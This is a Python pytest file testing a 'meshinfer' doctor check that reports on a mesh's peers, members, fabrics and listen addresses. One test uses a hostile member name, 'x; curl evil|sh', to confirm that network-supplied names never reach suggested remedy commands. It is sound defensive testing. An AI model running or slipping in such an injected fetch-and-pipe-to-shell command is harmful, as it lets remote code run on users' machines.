from dataclasses import replace

import pytest

from meshinfer.doctor.check_mesh import check_mesh
from meshinfer.doctor.finding import Mark
from meshinfer.doctor.observed import MemberSeen, Observed, PeerSeen

from .seen import only

WELL = MemberSeen("mac-2", "alive", "0.1.0")
PEER = PeerSeen("http://127.0.0.1:52415", "mac-1", "meshinfer", True, "", (WELL,))
MACHINE = Observed(release="0.1.0", peer=PEER)


def test_a_mesh_that_serves_is_well() -> None:
    finding = only(check_mesh(MACHINE), Mark.GOOD)
    assert finding.text == "mac-1 runs here, mesh meshinfer serves with 1 member"


def test_without_a_peer_it_is_told_how_to_start_one() -> None:
    finding = only(check_mesh(Observed(peer_silence="no peer answers at http://x")), Mark.NOTE)
    assert finding.text == "no peer answers at http://x"
    assert finding.remedies == ("meshinfer join --model smollm2",)


def test_a_peer_that_wants_a_key_is_not_taken_for_none() -> None:
    silent = Observed(peer_silence="what answers at http://x asks for a key", peer_wants_key=True)
    finding = only(check_mesh(silent), Mark.WARNING)
    assert finding.text == "what answers at http://x asks for a key: its mesh was not looked at"
    assert "MESHINFER_API_KEY" in finding.remedies[0]


@pytest.mark.parametrize(
    ("addresses", "is_told"),
    [
        (("tcp://127.0.0.1:4242", "tcp://[::1]:4242"), True),
        (("tcp://127.0.0.1:4242", "tcp://10.0.0.1:4242"), False),
        (("nonsense",), False),
        ((), False),
    ],
)
def test_a_peer_that_only_this_machine_reaches_is_told(addresses: tuple[str, ...], is_told: bool) -> None:
    own = MemberSeen("mac-1", "alive", "0.1.0", addresses)
    findings = check_mesh(replace(MACHINE, peer=replace(PEER, members=(own, WELL))))[1:]
    assert [each.text for each in findings] == [
        "mac-1 takes links from this machine alone: no other machine can reach it"
    ] * is_told
    assert all("meshinfer join --listen 0.0.0.0:52414" in each.remedies[0] for each in findings)


def test_a_name_from_the_network_is_in_nothing_to_type() -> None:
    hostile = replace(WELL, name="x; curl evil|sh", status="suspect", broken_links=("mac-3",))
    findings = check_mesh(replace(MACHINE, peer=replace(PEER, members=(hostile,))))
    assert not any("evil" in remedy for each in findings for remedy in each.remedies)


def test_who_is_reached_over_a_fabric_is_told_and_who_is_not_with_the_reason() -> None:
    peer = replace(PEER, fabrics=(("mac-2", "jaccl"),), fabric_failures=(("mac-3", "it needs macOS"),))
    _, first, second = check_mesh(replace(MACHINE, peer=peer))
    assert (first.mark, first.text) == (Mark.GOOD, "what goes to mac-2 goes over jaccl")
    assert (second.mark, second.text) == (Mark.NOTE, "what goes to mac-3 goes over TCP: it needs macOS")


def test_a_mesh_that_serves_nothing_says_why() -> None:
    idle = replace(PEER, is_live=False, reason="3.2 GB are missing")
    finding = only(check_mesh(replace(MACHINE, peer=idle)), Mark.WARNING)
    assert finding.text.endswith("serves nothing: 3.2 GB are missing")


@pytest.mark.parametrize(
    ("member", "mark", "text"),
    [
        (replace(WELL, fault="no room on disk"), Mark.BAD, "mac-2 holds no layers: no room on disk"),
        (replace(WELL, status="suspect"), Mark.WARNING, "mac-2 does not answer"),
        (replace(WELL, release="0.2.0"), Mark.WARNING, "mac-2 runs release 0.2.0, this is 0.1.0"),
        (replace(WELL, broken_links=("mac-3",)), Mark.WARNING, "mac-2 has no link to mac-3"),
    ],
)
def test_what_members_complain_about_is_passed_on(member: MemberSeen, mark: Mark, text: str) -> None:
    _, finding = check_mesh(replace(MACHINE, peer=replace(PEER, members=(member,))))
    assert finding.mark is mark
    assert finding.text.startswith(text)
